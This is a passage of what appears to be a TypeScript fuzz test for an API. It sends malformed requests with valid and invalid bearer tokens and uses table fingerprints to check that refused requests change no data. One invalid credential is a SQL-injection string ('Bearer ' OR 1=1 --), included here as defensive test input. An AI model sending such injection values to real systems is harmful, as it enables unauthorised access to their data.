  'two-tokens': `Bearer ${ADMIN_TOKEN}, Bearer ${ADMIN_TOKEN}`,
  'sql': "Bearer ' OR 1=1 --",
  'unicode': headerText('Bearer 令牌令牌'),
  'long': `Bearer ${'a'.repeat(10_000)}`,
  'empty-header': '',
}
const credential = fc.oneof(
  { arbitrary: fc.constantFrom(...Object.keys(VALID_CREDENTIALS)), weight: 3 },
  { arbitrary: fc.constantFrom(...Object.keys(INVALID_CREDENTIALS)), weight: 1 },
)

const tables = (await sql<{ name: string }>`select tablename as name from pg_tables where schemaname = 'public' order by tablename`.execute(database.db)).rows.map((r) => r.name)
const fingerprintQuery = sql.raw<{ name: string, hash: string }>(tables.map((name) =>
  `select '${name}' as name, md5(coalesce(string_agg(t::text, E'\\n' order by t::text), '')) || ':' || count(*) as hash from "${name}" t`).join(' union all '))

/** One hash per table of all its rows. */
async function fingerprint (): Promise<Map<string, string>> {
  return new Map((await fingerprintQuery.execute(database.db)).rows.map((r) => [r.name, r.hash]))
}

/*
 * Hashing every table after each of 5,000 requests costs more than the requests, so a cheap
 * check decides when to hash: a statement-level trigger on every table bumps a counter in the
 * same transaction as the write. A write that commits bumps it; one that rolls back rolls the
 * bump back too. So while the counter stands still, no row of any table has changed, and the
 * last fingerprint still holds; when it moves, the tables are hashed again and, after a refused
 * request, compared (a statement that touched no row moves the counter but not the hash).
 */
await database.withScriptSession(async (run) => run(`
  create table fuzz_writes (n bigint not null);
  insert into fuzz_writes values (0);
  create function fuzz_count_write() returns trigger language plpgsql as $$ begin update fuzz_writes set n = n + 1; return null; end $$;
  ${tables.map((name) => `create trigger fuzz_count_write after insert or update or delete or truncate on "${name}" for each statement execute function fuzz_count_write();`).join('\n')}
`))
const writes = async () => (await sql<{ n: string }>`select n::text as n from fuzz_writes`.execute(database.db)).rows[0]!.n

// ---------------------------------------------------------------------------------------------
// Sending and checking

let requests = 0
const statuses = new Map<number, number>()
let current = await fingerprint()
let writeCount = await writes()
let fingerprints = 0

const excerpt = (s: string | Buffer | undefined, n = 300) => {
  const text = s === undefined ? '' : typeof s === 'string' ? s : `<${s.length} bytes>`
  return text.length > n ? `${text.slice(0, n)}… (${text.length} chars)` : text
}

function urlOf (endpoint: Endpoint, spec: RequestSpec): string {
  const path = endpoint.path.replace(/\{([^}]+)\}/g, (_m, name: string) => spec.path[name] ?? '')
  const query = [...spec.query.map(([k, v]) => v === null ? k : `${k}=${v}`), ...spec.rawQuery].join('&')
  return query === '' ? path : `${path}?${query}`
}

async function send (endpoint: Endpoint, who: string, mutations: Mutation[]): Promise<void> {
  const spec = baselineOf(endpoint)
  for (const m of mutations) apply(endpoint, spec, m)
  const authorization = who in VALID_CREDENTIALS ? VALID_CREDENTIALS[who] : INVALID_CREDENTIALS[who]
  const headers = { ...spec.headers, ...(authorization === undefined ? {} : { authorization }) }
  const payload = spec.json !== undefined ? serializeJson(spec.json) : spec.payload
  const url = urlOf(endpoint, spec)
  requests++
  const response = await app.inject({ method: spec.method as 'GET', url, headers, ...(payload === undefined ? {} : { payload }) })
  const status = response.statusCode
  statuses.set(status, (statuses.get(status) ?? 0) + 1)
  const what = () => `${spec.method} ${excerpt(url, 200)} as ${who} → ${status}\n  request headers: ${excerpt(JSON.stringify(headers))}\n` +
    `  request body: ${excerpt(payload)}\n  response: ${excerpt(response.body, 600)}`

  if (status >= 500) throw new Error(`a 5xx: ${what()}`)
  if (status >= 400) {
    const contentType = String(response.headers['content-type'])
    if (!/^application\/problem\+json/.test(contentType)) throw new Error(`a ${status} that is not problem+json (${contentType}): ${what()}`)
    let problem: { type?: unknown, status?: unknown, title?: unknown, detail?: unknown }
    try { problem = JSON.parse(response.body) } catch { throw new Error(`a problem body that is not JSON: ${what()}`) }
    if (problem.status !== status) throw new Error(`problem status ${String(problem.status)} is not the HTTP status: ${what()}`)
    if (typeof problem.type !== 'string' || typeof problem.title !== 'string' || typeof problem.detail !== 'string') throw new Error(`a problem without type, title or detail strings: ${what()}`)
    if (/\bat .+\.(ts|js|mjs|cjs):\d+|node_modules|\/work\//.test(response.body)) throw new Error(`a stack trace or a file path in a problem: ${what()}`)
  }
  if (status < 300 && /^application\/json/.test(String(response.headers['content-type']))) {
    try { JSON.parse(response.body) } catch { throw new Error(`a ${status} whose JSON body does not parse: ${what()}`) }
  }
  if (endpoint.secured && !(who in VALID_CREDENTIALS) && status < 400) throw new Error(`a secured operation answered without a valid credential: ${what()}`)

  const count = await writes()
  if (count === writeCount) return
  writeCount = count
  const after = await fingerprint()
  fingerprints++
  const changed = tables.filter((name) => after.get(name) !== current.get(name))
  current = after
  if (status >= 400 && changed.length > 0) throw new Error(`a refused request changed ${changed.join(', ')}: ${what()}`)
}

// ---------------------------------------------------------------------------------------------
// The runs

t.test('the fuzzer walks every operation of the document', async (t) => {
  t.ok(endpoints.length >= 40, `${endpoints.length} operations`)
  for (const e of endpoints) {
    if (e.body !== undefined) t.not(e.body.example, undefined, `${e.name} has a request example to start from`)
  }
})

t.test('the write counter moves with committed writes only, and the fingerprint sees them', async (t) => {
  // (No assertion at the top level: tap would end the file while the setup still awaits PostgreSQL.)
  t.equal(revocation, 200, 'a revoked key for the invalid credentials')
  t.ok(tables.includes('audit_events') && tables.includes('idempotency_keys'), `fingerprinting ${tables.length} tables`)
  const [count, hashes] = [await writes(), await fingerprint()]
  await database.db.transaction().execute(async (tx) => {
    await tx.insertInto('districts').values({ code: '379999', name: 'probe' }).execute()
    throw new Error('roll back')
  }).catch(() => undefined)
  t.equal(await writes(), count, 'a write rolled back leaves the counter')
  t.same(await fingerprint(), hashes)
  await database.db.insertInto('districts').values({ code: '379999', name: 'probe' }).execute()
  t.not(await writes(), count, 'a committed write moves it')
  t.not((await fingerprint()).get('districts'), hashes.get('districts'), 'and changes the districts hash')
  await database.db.deleteFrom('districts').where('code', '=', '379999').execute()
  t.same(await fingerprint(), hashes, 'the same rows, the same fingerprint')
  writeCount = await writes()
})

t.test('every example runs once as the admin, to fill the world', async (t) => {
  for (const endpoint of endpoints) await send(endpoint, 'admin', [{ kind: 'unchanged' }])
  t.comment(`statuses so far: ${JSON.stringify(Object.fromEntries(statuses))}`)
})

t.test(`malformed variants of every operation: no 5xx, problem+json 4xx, refused requests change nothing (seed ${seed})`, async (t) => {
  const only = process.env.FUZZ_ONLY
  const selected = endpoints.filter((e) => only === undefined || only === '' || e.name === only)
  const runs = Math.ceil(MIN_REQUESTS / endpoints.length) + 5
  const started = performance.now()
  for (const endpoint of selected) {
    const before = requests
    const property = fc.asyncProperty(credential, fc.array(mutationsFor(endpoint), { minLength: 1, maxLength: 2 }), async (who, mutations) => {
      await send(endpoint, who, mutations)
    })
    const path = process.env.FUZZ_PATH
    const details = await fc.check(property, {
      seed: (seed + endpoints.indexOf(endpoint)) | 0, numRuns: runs, ...(path === undefined || path === '' ? {} : { path }),
    })
    if (details.failed) t.fail(`${endpoint.name}\n${fc.defaultReportMessage(details) ?? ''}\n${details.errorInstance instanceof Error ? details.errorInstance.message : String(details.errorInstance)}\nreplay: FUZZ_SEED=${seed} FUZZ_ONLY="${endpoint.name}"`)
    else t.ok(requests - before > 0, `${endpoint.name}: ${requests - before} requests`)
  }
  const seconds = (performance.now() - started) / 1000
  t.comment(`${requests} requests (${fingerprints} of them wrote, and the tables were hashed again) in ${seconds.toFixed(1)} s; statuses ${JSON.stringify(Object.fromEntries([...statuses].sort(([a], [b]) => a - b)))}`)
  if (only === undefined || only === '') t.ok(requests >= MIN_REQUESTS, `at least ${MIN_REQUESTS} requests (${requests})`)
})
